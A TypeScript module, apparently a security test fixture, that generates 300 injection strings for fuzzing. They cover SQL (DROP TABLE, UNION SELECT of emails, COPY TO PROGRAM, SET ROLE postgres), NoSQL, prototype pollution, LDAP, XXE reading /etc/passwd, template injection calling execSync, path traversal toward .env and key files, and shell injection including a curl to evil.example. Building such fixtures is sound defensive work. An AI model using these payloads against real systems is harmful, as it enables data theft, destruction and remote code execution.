import { cross, exactly } from './cross'

const quotes = ["'¤", '"¤', "')¤", "'))¤", '\\¤', '%27¤', "''¤", '$$¤$$', "E'\\\\'¤", '`¤']

const sql = [
  ' OR 1=1 --',
  " OR 'a'='a",
  '; DROP TABLE submission; --',
  '; DELETE FROM audit_event; --',
  ' UNION SELECT NULL, NULL, email FROM account --',
  ' AND 1=(SELECT CAST(password_hash AS int) FROM account LIMIT 1) --',
  '; SELECT pg_sleep(20); --',
  ' || pg_sleep(20) || ',
  '; COPY account TO PROGRAM $$id$$; --',
  '; SET ROLE postgres; --',
  '; SET row_security = off; --',
  "; SELECT set_config('app.actor', '', false); --",
  '/**/OR/**/1=1#',
  ' AND (SELECT count(*) FROM generate_series(1, 100000000)) > 0 --',
] as const

const documents = [
  '{"$gt":""}',
  '{"$ne":null}',
  '{"$where":"sleep(20000)"}',
  '{"$regex":"^(a+)+$"}',
  '{"contains":"","mode":"insensitive"}',
  '{"equals":{"path":["a"]}}',
  '{"OR":[{}]}',
  '{"not":{"in":[]}}',
  '{"__proto__":{"admin":true}}',
  '{"constructor":{"prototype":{"role":"administrator"}}}',
  '[object Promise]',
  '{"then":{"constructor":"Function"}}',
  '{"toJSON":"x"}',
  '*)(uid=*))(|(uid=*',
  '*)(objectClass=*',
  "' or count(/*)=1 or 'a'='b",
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>',
] as const

const templates = cross(
  ['{{¤}}', '${¤}', '<%= ¤ %>', '#{¤}', '@(¤)', '[[¤]]', '*{¤}', '{% ¤ %}'],
  [
    '7*7',
    "constructor.constructor('return process')()",
    'process.env.AUTH_SECRET',
    "require('child_process').execSync('id')",
    'self.__init__.__globals__',
  ],
)

const messages = [
  '{name}',
  '{count, plural, =0 {none} other {#}}',
  '<b>{x}</b>',
  "'{",
  '{0}',
  '%s%s%s%n',
  '%1$s',
] as const

const files = [
  'etc/passwd',
  'proc/self/environ',
  '.data/keys/intake.private.json',
  '.data/secrets.json',
  '.env',
  'package.json',
] as const
const paths = cross(
  [
    '../../../../¤',
    '..\\..\\..\\¤',
    '/¤',
    'file:///¤',
    '%2e%2e%2f%2e%2e%2f¤',
    '....//....//¤',
    '/./././¤\u0000.txt',
    '..;/¤',
    '\\\\?\\C:\\¤',
    '/proc/self/root/¤',
  ],
  files,
)

const commands = cross(
  ['¤', '; ¤ #', '| ¤', '`¤`', '$(¤)', '& ¤ &', '\n¤\n', '%0a¤', '|| ¤ ||', '&& ¤', '{¤,}', '<(¤)'],
  ['sleep 20', 'cat /etc/passwd', 'curl http://evil.example'],
)

/** 300 texts made for a database, a document store, a template, a file system or a shell. */
export const injections = exactly(300, [
  ...cross(quotes, sql),
  ...documents,
  ...templates,
  ...messages,
  ...paths,
  ...commands,
])
